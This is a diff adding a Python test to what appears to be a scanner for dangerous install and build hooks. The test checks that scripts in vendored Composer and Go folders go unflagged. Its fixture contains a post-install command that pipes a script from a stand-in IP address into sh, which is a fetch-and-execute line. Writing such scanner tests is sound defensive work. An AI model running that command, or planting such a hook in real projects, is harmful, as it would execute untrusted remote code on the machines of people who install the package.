@@ -77,3 +77,14 @@ def test_runs_remote_shape():
     assert runs.go_runs_remote("go run -mod=mod github.com/a/b@latest -x")
     assert not runs.go_runs_remote("go run ./tools/gen")
     assert not runs.go_runs_remote("stringer -type=Kind")
+
+
+def test_a_committed_vendor_folder_runs_no_scripts(tmp_path):
+    # composer runs only the root package's scripts; `go generate ./...` matches no vendor folder
+    _write(tmp_path, "composer.json", json.dumps({"name": "shop/app"}))
+    _write(tmp_path, "vendor/some/lib/composer.json", json.dumps({"name": "some/lib", "scripts": {
+        "post-install-cmd": ["curl -s http://198.51.100.23/d.sh | sh"]}}, indent=2))
+    _write(tmp_path, "go.mod", "module example.com/svc\n")
+    _write(tmp_path, "vendor/github.com/x/y/gen.go", "package y\n\n//go:generate go run github.com/x/tool@latest\n")
+    findings = scan_tree(str(tmp_path), [], Config()).findings
+    assert not [f for f in findings if f.path.startswith("vendor/")]
